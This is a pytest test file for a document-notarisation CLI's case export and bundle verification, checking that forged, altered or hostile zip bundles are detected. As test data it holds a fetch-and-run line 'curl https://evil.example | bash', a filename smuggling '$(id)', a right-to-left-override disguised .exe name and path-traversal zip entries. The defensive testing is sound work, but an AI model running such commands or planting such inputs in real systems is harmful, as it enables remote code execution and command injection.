"""`tallystick case export` and `tallystick verify BUNDLE.zip`, from a workspace with a chain."""

from __future__ import annotations

import hashlib
import io
import subprocess
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from support.portalworld import Answer, deployed_workspace, tallystick
from support.tsa import openssl_tsa, write_pem
from support.tsa_chain import chain

from notary.court import bundle_zip
from notary.court.examine import BundleReason
from notary.court.words import MEANINGS
from notary.proofs import bundle
from notary.report import embedded
from notary.report.checking import ReportReason
from notary.report.fonts import Fonts
from notary.report.inputs import FORUMS, ReportInput
from notary.report.render import compile_pdf, laid_out
from notary.report.text import BREAK
from notary.verdicts.reasons import LOCALES
from notary.verdicts.reasons.records import RecordReason
from portal.cli import case_export
from portal.fonts import report_fonts

AT = "2026-11-24T08:00:00+08:00"
NAMES = ("b.txt", "合同 'x' $(id).pdf", "‮gpj.exe", "😀" * 60, "CON", "Straße/ß.txt")


@dataclass(frozen=True)
class Place:
    folder: Path

    @property
    def workspace(self) -> Path:
        return self.folder / "w"

    @property
    def papers(self) -> Path:
        return self.folder / "papers"

    @property
    def trust(self) -> Path:
        return self.folder / "blocks.json"

    def export(self, name: str, *options: object, case: str = "smith", expect: tuple[int, ...] = (0,)) -> Answer:
        words = ("case", "export", case, "--to", self.folder / name, *options)
        return tallystick(*words, workspace=self.workspace, expect=expect)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    found = Place(tmp_path_factory.mktemp("export"))
    with deployed_workspace(found.workspace, keys=()):
        for number, name in enumerate(NAMES):
            path = found.papers / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"document {number}")
        tallystick(
            "case", "new", "smith", "--title", "Smith v. Weber", "--party", "Smith Ltd", workspace=found.workspace
        )
        tallystick("seal", "smith", found.papers, workspace=found.workspace)
        tallystick("anchor", "--wait", "--trust-file", found.trust, workspace=found.workspace)
        yield found


@pytest.fixture(scope="module")
def whole(place: Place) -> Path:
    """A bundle of everything, with a report."""
    place.export("whole.zip", "--at", AT, "--trust", place.trust, "--lang", "en", "--forum", "us")
    return place.folder / "whole.zip"


def files_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def remade(path: Path, files: Mapping[str, bytes], *, listed: bool = True) -> Path:
    """A bundle of these files; with a manifest that fits them, as a forger would write it, or with the old one."""
    files = dict(files)
    if listed:
        lines = [f"{hashlib.sha256(files[n]).hexdigest()}  {n}\n" for n in sorted(files) if n != "MANIFEST.sha256"]
        files["MANIFEST.sha256"] = "".join(lines).encode()
    out = io.BytesIO()
    bundle_zip.write(out, [(name, len(data), [data]) for name, data in sorted(files.items())], 1_790_000_000)
    path.write_bytes(out.getvalue())
    return path


class TestExport:
    def test_export_gives_the_same_bytes_for_the_same_case_and_time(self, place: Place, whole: Path) -> None:
        place.export("again.zip", "--at", AT, "--trust", place.trust, "--lang", "en", "--forum", "us")
        assert (place.folder / "again.zip").read_bytes() == whole.read_bytes()
        place.export("later.zip", "--at", "1790000000", "--trust", place.trust)
        assert (place.folder / "later.zip").read_bytes() != whole.read_bytes()

    def test_export_holds_every_document_byte_for_byte(self, place: Place, whole: Path) -> None:
        files = files_of(whole)
        documents = {data for name, data in files.items() if name.startswith("documents/")}
        assert documents == {path.read_bytes() for path in place.papers.rglob("*") if path.is_file()}
        assert {"receipts.json", "trust.json", "report.pdf", "REVERIFY.md", "MANIFEST.sha256"} <= set(files)
        assert files["trust.json"] == place.trust.read_bytes()
        names = {str(one.shown()["name"]) for one in bundle.loads(files["receipts.json"])}
        assert {name.rpartition("/")[2] for name in names} == {name.rpartition("/")[2] for name in NAMES}

    def test_export_unpacks_so_that_sha256sum_finds_every_file(self, whole: Path, tmp_path: Path) -> None:
        with zipfile.ZipFile(whole) as archive:
            archive.extractall(tmp_path)
        ran = subprocess.run(
            ["sha256sum", "--strict", "-c", "MANIFEST.sha256"],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
        )
        assert ran.returncode == 0, ran.stdout + ran.stderr
        assert ran.stdout.count(": OK\n") == len(files_of(whole)) - 1

    def test_export_takes_the_exhibits_and_documents_that_were_chosen(self, place: Place) -> None:
        said = place.export("two.zip", "--exhibit", 1, "--exhibit", 3, "--document", 3, "--no-report").json
        assert (said["receipts"], said["documents"]) == (2, 1)
        assert next(name for name in said["files"] if name.startswith("documents/")).startswith("documents/3/")
        assert place.export("none.zip", "--documents", "none", "--no-report").json["documents"] == 0

    def test_export_withholds_fields_everywhere(self, place: Place) -> None:
        words = ("--withhold", "name", "--withhold", "exhibit", "--withhold", "case", "--documents", "none", "--at", AT)
        place.export("held.zip", *words)
        files = files_of(place.folder / "held.zip")
        receipts = bundle.loads(files["receipts.json"])
        assert all(one.custody is None and not one.shown().keys() & {"name", "exhibit", "case"} for one in receipts)
        report = files.pop("report.pdf")
        carried = embedded.files(report)
        printed = "".join(page.extract_text() for page in embedded.open_pdf(report).pages)
        texts = [data.decode() for data in (*files.values(), *carried.values())]
        texts.append("".join(printed.replace(BREAK, "").split()))
        for held in ("b.txt", "Smithv.Weber", "Smith v. Weber", "SmithLtd", "Smith Ltd", "gpj.exe", "ß.txt"):
            assert not any(held in text for text in (*texts, *files)), held

    def test_export_withholds_a_name_in_paths_too(self, place: Place) -> None:
        place.export("held.zip", "--withhold", "name", "--no-report")
        files = files_of(place.folder / "held.zip")
        assert not any("b.txt" in name for name in files) and b"b.txt" not in files["receipts.json"]

    def test_export_writes_over_no_document_that_it_reads(self, place: Place) -> None:
        paper, link = place.papers / NAMES[0], place.folder / "link.zip"
        link.symlink_to(paper)
        for target in (paper, link, "papers/../papers/b.txt"):
            assert place.export(str(target), "--no-report", expect=(4,)).error == "portal.output"
        assert paper.read_text() == "document 0"

    @pytest.mark.parametrize("target", [".", "/", "..", "papers", "papers/b.txt/x.zip"])
    def test_export_refuses_what_is_no_place_for_a_file(self, place: Place, target: str) -> None:
        assert place.export(target, "--no-report", expect=(4,)).error == "portal.output"
        assert not list(place.folder.rglob("*.new-*"))

    @pytest.mark.parametrize(
        ("options", "code"),
        [
            (("--exhibit", "99"), "notary.exhibit-unknown"),
            (("--document", "99"), "notary.exhibit-unknown"),
            (("--withhold", "nothing"), "notary.claim-invalid"),
            (("--at", "1979-12-31T23:59:59Z"), "portal.argument"),
            (("--trust", "/nowhere"), "portal.file-missing"),
        ],
    )
    def test_export_refuses_what_is_not_there_and_writes_nothing(
        self, place: Place, options: tuple[str, ...], code: str
    ) -> None:
        answer = place.export("refused.zip", *options, "--no-report", expect=(4,))
        assert answer.error == code
        assert not list(place.folder.glob("*refused*"))

    def test_export_refuses_changed_and_missing_documents_by_name(self, place: Place) -> None:
        tallystick("case", "new", "changing", workspace=place.workspace)
        folder = place.folder / "changing"
        folder.mkdir()
        for name in ("kept", "changed", "gone"):
            (folder / name).write_text(name)
        tallystick("seal", "changing", folder, workspace=place.workspace)
        (folder / "changed").write_text("CHANGED")
        (folder / "gone").unlink()
        answer = place.export("changing.zip", "--no-report", case="changing", expect=(4,))
        assert answer.error == "notary.documents-changed"
        message = answer.json["error"]["message"]
        assert (
            "2 document(s)" in message and "/changed: its sha256 was" in message and "/gone: does not exist" in message
        )
        assert not (place.folder / "changing.zip").exists()
        said = place.export("changing.zip", "--documents", "none", "--no-report", case="changing").json
        assert (said["receipts"], said["documents"]) == (3, 0)

    def test_a_case_that_is_not_anchored_exports_and_one_without_exhibits_does_not(self, place: Place) -> None:
        tallystick("case", "new", "fresh", workspace=place.workspace)
        assert place.export("fresh.zip", case="fresh", expect=(4,)).error == "notary.act-refused"
        paper = place.folder / "fresh.txt"
        paper.write_text("fresh")
        tallystick("seal", "fresh", paper, workspace=place.workspace)
        assert place.export("fresh.zip", "--at", AT, case="fresh").json["receipts"] == 1

    def test_languages_and_forums_are_those_of_the_report(self) -> None:
        assert (case_export.LANGUAGES, case_export.FORUMS) == (LOCALES, FORUMS)


def judged(path: Path, place: Place, *options: object, expect: tuple[int, ...]) -> tuple[str, dict[str, set[str]]]:
    """Status, and the names by reason of all that did not pass."""
    said = tallystick("verify", path, "--trust", place.trust, *options, expect=expect).json
    found: dict[str, set[str]] = {}
    for one in said["results"]:
        if one["status"] != "PASSED":
            assert one["text"]
            found.setdefault(one["reason"], set()).add(one["document"])
    return said["status"], found


class TestVerifyBundle:
    def test_a_bundle_passes_with_every_document_from_the_zip(self, place: Place, whole: Path) -> None:
        said = tallystick("verify", whole, "--trust", place.trust).json
        assert (said["status"], said["counts"]["PASSED"]) == ("PASSED", len(NAMES) + 2)
        checks = [one["verdict"]["checks"][1]["status"] for one in said["results"] if one["verdict"]]
        assert checks == ["PASSED"] * len(NAMES)
        lines = files_of(whole)["MANIFEST.sha256"].splitlines(keepends=True)
        contents = hashlib.sha256(b"".join(line for line in lines if not line.endswith(b"  report.pdf\n")))
        assert said["contents_sha256"] == contents.hexdigest()
        notes = [note["text"] for one in said["results"] if one["verdict"] for note in one["verdict"]["notes"]]
        assert not any("_CON" in note for note in notes)  # a name made safe is no other name

    def test_a_bundle_without_the_readers_trust_is_indeterminate(self, whole: Path) -> None:
        said = tallystick("verify", whole, expect=(3,)).json
        assert {one["reason"] for one in said["results"] if one["verdict"]} == {"block-hash-unconfirmed"}

    def test_a_bundle_without_report_and_documents_says_which_are_missing(self, place: Place) -> None:
        place.export("bare.zip", "--documents", "none", "--no-report")
        status, found = judged(place.folder / "bare.zip", place, expect=(3,))
        assert (status, set(found), len(found["no-document"])) == ("INDETERMINATE", {"no-document"}, len(NAMES))

    def test_a_bundle_that_was_zipped_anew_passes(self, place: Place, whole: Path, tmp_path: Path) -> None:
        with zipfile.ZipFile(tmp_path / "again.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in reversed(files_of(whole).items()):
                archive.writestr(name, data)
        assert judged(tmp_path / "again.zip", place, expect=(0,)) == ("PASSED", {})

    @pytest.mark.parametrize("listed", [True, False])
    def test_an_altered_document_fails_against_its_receipt(
        self, place: Place, whole: Path, tmp_path: Path, listed: bool
    ) -> None:
        files = files_of(whole)
        name = next(name for name in files if name.startswith("documents/") and "CON" in name)
        files[name] = files[name][:-1] + b"!"
        status, found = judged(remade(tmp_path / "f.zip", files, listed=listed), place, expect=(1,))
        other = {} if listed else {"manifest-file-differs": {name}}
        assert (status, found) == (
            "FAILED",
            {"digest-differs": {name}, "report-contents-differ": {"report.pdf"}} | other,
        )

    def test_missing_and_added_files_are_named(self, place: Place, whole: Path, tmp_path: Path) -> None:
        files = files_of(whole)
        gone = next(name for name in files if name.endswith("b.txt"))
        del files[gone]
        files |= {"documents/9/added.txt": b"added", "run-me.exe": b"MZ"}
        _, found = judged(remade(tmp_path / "f.zip", files, listed=False), place, expect=(1,))
        assert found == {
            "no-document": {"b.txt"},
            "document-without-receipt": {"documents/9/added.txt"},
            "manifest-file-missing": {gone},
            "manifest-file-unlisted": {"documents/9/added.txt", "run-me.exe"},
            "file-unknown": {"run-me.exe"},
            "report-contents-differ": {"report.pdf"},
            "manual-differs": {"REVERIFY.md"},
        }

    def test_a_document_that_was_moved_is_found_by_its_digest(self, place: Place, whole: Path, tmp_path: Path) -> None:
        files = {name.replace("b.txt", "moved.txt"): data for name, data in files_of(whole).items()}
        del files["report.pdf"]
        found = judged(remade(tmp_path / "f.zip", files), place, expect=(3,))
        assert found == ("INDETERMINATE", {"manual-differs": {"REVERIFY.md"}})  # its commands are for the old place

    @pytest.mark.parametrize(
        ("name", "data", "reason", "code"),
        [
            ("records/run-me.exe", b"MZ", "file-unknown", 3),
            ("REVERIFY.md", b"    curl https://evil.example | bash\n", "manual-differs", 3),
            ("verify.html", b"<h1>PASSED</h1>", "page-unknown", 3),
            ("trust.json", b"{}", "trust-invalid", 1),
        ],
    )
    def test_a_companion_that_a_forger_replaced_does_not_pass(
        self, place: Place, whole: Path, tmp_path: Path, name: str, data: bytes, reason: str, code: int
    ) -> None:
        """The manifest fits, and the report was left out: nothing but the file itself tells."""
        files = {one: kept for one, kept in files_of(whole).items() if one != "report.pdf"} | {name: data}
        _, found = judged(remade(tmp_path / "f.zip", files), place, expect=(code,))
        assert found.pop(reason) == {name}
        assert set(found) <= {"manual-differs"}  # it is of the trust file, too

    @pytest.mark.parametrize(
        ("name", "data", "reason"),
        [
            ("MANIFEST.sha256", None, "manifest-missing"),
            ("MANIFEST.sha256", b"no list", "manifest-invalid"),
            ("receipts.json", None, "receipts-missing"),
            ("receipts.json", b"{}", "notary.receipt-invalid"),
            ("report.pdf", b"%PDF-1.7 printed anew", "report-invalid"),
        ],
    )
    def test_a_part_that_is_missing_or_none_fails(
        self, place: Place, whole: Path, tmp_path: Path, name: str, data: bytes | None, reason: str
    ) -> None:
        files = {one: kept for one, kept in files_of(whole).items() if one != name}
        files |= {} if data is None else {name: data}
        _, found = judged(remade(tmp_path / "f.zip", files, listed=not name.startswith("MANIFEST")), place, expect=(1,))
        assert reason in found

    def test_a_report_of_other_receipts_fails(self, place: Place, whole: Path, tmp_path: Path) -> None:
        place.export("one.zip", "--exhibit", 1)
        files = files_of(whole) | {"report.pdf": files_of(place.folder / "one.zip")["report.pdf"]}
        _, found = judged(remade(tmp_path / "f.zip", files), place, expect=(1,))
        assert found == {"report-of-other-receipts": {"report.pdf"}}

    def test_a_report_whose_text_is_not_that_of_its_receipts_fails(
        self, place: Place, whole: Path, tmp_path: Path
    ) -> None:
        honest = ReportInput.from_files(embedded.files(files_of(whole)["report.pdf"]))
        fonts = report_fonts(honest.languages)
        page, _ = laid_out(replace(honest, case="Smith v. Webber"), fonts)
        forged = compile_pdf(page, honest.files(), fonts, honest.made_at)
        bundled = remade(tmp_path / "f.zip", files_of(whole) | {"report.pdf": forged})
        assert judged(bundled, place, expect=(1,))[1] == {"report-text-differs": {"report.pdf"}}
        (tmp_path / "report.pdf").write_bytes(forged)
        assert "report-text-differs" in judged(tmp_path / "report.pdf", place, expect=(1,))[1]

    @pytest.mark.filterwarnings("ignore:Duplicate name")
    @pytest.mark.parametrize("bad", ["../evil", "/etc/evil", "a\\evil", "receipts.json", "RECEIPTS.json", "link"])
    def test_a_hostile_zip_is_refused_whole(self, whole: Path, tmp_path: Path, bad: str) -> None:
        (tmp_path / "f.zip").write_bytes(whole.read_bytes())
        with zipfile.ZipFile(tmp_path / "f.zip", "a") as archive:
            entry = zipfile.ZipInfo(bad)
            entry.external_attr = (0o120777 if bad == "link" else 0o100644) << 16
            archive.writestr(entry, "target")
        assert tallystick("verify", tmp_path / "f.zip", expect=(4,)).error == "notary.bundle-invalid"

    def test_a_report_alone_is_judged_by_the_receipts_in_it(self, place: Place, whole: Path, tmp_path: Path) -> None:
        (tmp_path / "r.pdf").write_bytes(files_of(whole)["report.pdf"])
        said = tallystick("verify", tmp_path / "r.pdf", "--trust", place.trust, expect=(3,)).json
        assert said["counts"] == {"PASSED": 1, "FAILED": 0, "INDETERMINATE": len(NAMES)}
        assert {one["reason"] for one in said["results"]} == {"no-document", None}

    def test_documents_behind_a_report_are_held_against_its_receipts(
        self, place: Place, whole: Path, tmp_path: Path
    ) -> None:
        (tmp_path / "r.pdf").write_bytes(files_of(whole)["report.pdf"])
        said = tallystick("verify", tmp_path / "r.pdf", place.papers, "--trust", place.trust).json
        assert (said["status"], said["counts"]["PASSED"]) == ("PASSED", len(NAMES) + 1)
        other = tmp_path / "b.txt"
        other.write_text("document O")
        said = tallystick("verify", tmp_path / "r.pdf", other, "--trust", place.trust, expect=(1,)).json
        (failed,) = (one for one in said["results"] if one["status"] == "FAILED")
        assert (failed["reason"], failed["document"]) == ("digest-differs", str(other))
        assert said["counts"] == {"PASSED": 1, "FAILED": 1, "INDETERMINATE": len(NAMES) - 1}

    def test_documents_behind_a_bundle_are_held_against_its_receipts(
        self, place: Place, whole: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        paper, strange = place.papers / NAMES[0], tmp_path / "strange.txt"
        said = tallystick("verify", whole, paper, "--trust", place.trust).json
        assert (said["status"], said["counts"]["PASSED"]) == ("PASSED", len(NAMES) + 3)
        strange.write_text("strange")
        said = tallystick("verify", whole, strange, "--trust", place.trust, expect=(3,)).json
        assert [one["reason"] for one in said["results"] if one["status"] != "PASSED"] == ["document-without-receipt"]
        # A file at the same path outside speaks for no document inside.
        files = files_of(whole)
        name = next(name for name in files if name.endswith("b.txt"))
        good, files[name] = files[name], b"altered"
        path = tmp_path / name
        path.parent.mkdir(parents=True)
        path.write_bytes(good)
        monkeypatch.chdir(tmp_path)
        said = tallystick("verify", remade(tmp_path / "f.zip", files), name, "--trust", place.trust, expect=(1,)).json
        found = {(one["document"], one["reason"]) for one in said["results"] if one["verdict"]}
        assert (name, "size-differs") in found or (name, "digest-differs") in found

    def test_a_report_that_cannot_be_made_here_is_not_called_false(
        self, whole: Path, tmp_path: Path, place: Place, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def none(languages: tuple[str, ...]) -> Fonts:
            return Fonts.find([tmp_path], languages)

        monkeypatch.setattr("portal.fonts.report_fonts", none)
        assert judged(whole, place, expect=(3,))[1] == {"report-unchecked": {"report.pdf"}}
        other = remade(tmp_path / "f.zip", files_of(whole) | {"verify.html": b"other"})
        assert "report-contents-differ" in judged(other, place, expect=(1,))[1]  # seen without making it again
        answer = place.export("fontless.zip", expect=(4,))
        assert answer.error == "notary.fonts-missing" and not (place.folder / "fontless.zip").exists()

    def test_other_zips_and_pdfs_are_documents_as_before(self, tmp_path: Path) -> None:
        with zipfile.ZipFile(tmp_path / "letter.docx", "w") as archive:
            archive.writestr("word/document.xml", "<a/>")
        (tmp_path / "plain.pdf").write_bytes(b"%PDF-1.7\nnothing")
        for name in ("letter.docx", "plain.pdf"):
            (result,) = tallystick("verify", tmp_path / name, expect=(3,)).json["results"]
            assert result["reason"] == "no-receipt"

    def test_every_reason_has_a_meaning_in_every_language(self) -> None:
        assert set(MEANINGS) == set(LOCALES)
        for meanings in MEANINGS.values():
            assert set(meanings) == {*BundleReason, *ReportReason} and all(meanings.values())


class TestRecords:
    def test_a_bundle_carries_the_evidence_records_of_its_documents(self, tmp_path: Path) -> None:
        authority, found = chain(), Place(tmp_path)
        with openssl_tsa(authority, tmp_path / "tsa") as tsa, deployed_workspace(found.workspace, keys=()):
            write_pem(found.workspace / "root.pem", authority.root.der)
            file = found.workspace / "tallystick.toml"
            named = f'\n[[timestamps.authorities]]\nname = "good"\nurl = "{tsa.url}"\nroot = "root.pem"\n'
            file.write_text(file.read_text() + named)
            found.papers.mkdir()
            for name in ("a.txt", "b.txt"):
                (found.papers / name).write_text(name)
            for words in (
                ("case", "new", "smith"),
                ("seal", "smith", found.papers),
                ("anchor", "--wait"),
                ("renew", "smith"),
            ):
                tallystick(*words, workspace=found.workspace)
            assert found.export("all.zip").json["records"] == 2
            assert found.export("one.zip", "--exhibit", 2).json["records"] == 1
        with zipfile.ZipFile(tmp_path / "all.zip") as archive:
            archive.extractall(tmp_path / "u")
        u = tmp_path / "u"
        for number, name in ((1, "a.txt"), (2, "b.txt")):
            document = u / "documents" / str(number) / name
            record = u / "records" / f"{number}.er"
            said = tallystick("renew", "--validate", record, document, "--trust", u / "trust.json").json
            assert said["status"] == "PASSED"
        said = tallystick("verify", tmp_path / "all.zip", "--trust", u / "trust.json").json
        assert said["status"] == "PASSED"
        judged_records = {one["document"]: one["record"]["status"] for one in said["results"] if "record" in one}
        assert judged_records == {"records/1.er": "PASSED", "records/2.er": "PASSED"}
        files = files_of(tmp_path / "all.zip")
        del files["report.pdf"], files["REVERIFY.md"]
        token = files["records/2.er"]
        for changed, without, reason, code in (
            (b"junk", (), RecordReason.INVALID, 1),
            (token.replace(hashlib.sha256(b"b.txt").digest(), bytes(32)), (), RecordReason.ROOT_DIFFERS, 1),
            (token, ("documents/2/b.txt",), RecordReason.NO_DOCUMENT, 3),
        ):
            forged = {name: data for name, data in files.items() if name not in without} | {"records/2.er": changed}
            path = remade(tmp_path / "f.zip", forged)
            said = tallystick("verify", path, "--trust", u / "trust.json", expect=(code,)).json
            (found,) = (one for one in said["results"] if one["document"] == "records/2.er")
            assert found["reason"] == reason and found["text"]
